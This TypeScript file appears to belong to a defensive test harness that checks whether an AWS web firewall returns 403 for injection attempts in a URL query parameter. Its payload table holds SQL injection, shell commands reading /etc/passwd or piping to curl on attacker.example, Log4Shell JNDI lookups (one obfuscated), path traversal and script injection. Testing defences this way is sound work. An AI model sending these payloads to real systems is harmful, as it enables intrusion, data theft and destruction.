import { type Attack, type AttackCase, casesOr, type ExpectedRefusal } from '../drill/attack';
import type { Call } from '../drill/call';
import { changed, NOBODY } from '../drill/cases';

/** By the rule of the web ACL that carries the slug: AWS does not publish what its own groups match. */
const BLOCKED: ExpectedRefusal = { layer: 'input', reasons: ['WAF_BLOCKED'], statuses: [403] };

const PAYLOADS: Readonly<Record<string, string>> = {
  'a union of queries': "x' union all select password from users--",
  'a condition that always holds': "x' or '1'='1",
  'a second statement': '1; drop table orders',
  'a pause in the database': '1 and pg_sleep(10)',
  'a look-up of a logger': '${jndi:ldap://attacker.example/a}',
  'a hidden look-up of a logger': '${${lower:j}ndi:ldap://attacker.example/a}',
  'a shell command': 'a; cat /etc/passwd',
  'a shell command behind a pipe': 'a | curl -s attacker.example',
  'a command substitution': '$(id)',
  'a path that climbs': '../../../../etc/passwd',
  'a script': '<script>alert(1)</script>',
  'a byte that ends texts': 'a\u0000.jpg',
};

const inQuery =
  (value: string) =>
  (call: Call): Call => ({ ...call, query: [...call.query, ['q', value]] });

/** What interpreters behind the API would run; where the contract has a place for it or not, it must not travel. */
export const inputInjection: Attack = {
  slug: 'input-injection',
  title: 'send commands, queries and paths in the URL',
  cases: (context) => {
    const probe = context.probe();
    const cases = Object.entries(PAYLOADS).flatMap(([name, value]): AttackCase[] =>
      probe
        ? [
            changed(probe, name, BLOCKED, inQuery(value)),
            changed(probe, `${name}, encoded twice`, BLOCKED, inQuery(encodeURIComponent(value))),
          ]
        : [],
    );
    return casesOr(cases, NOBODY);
  },
};
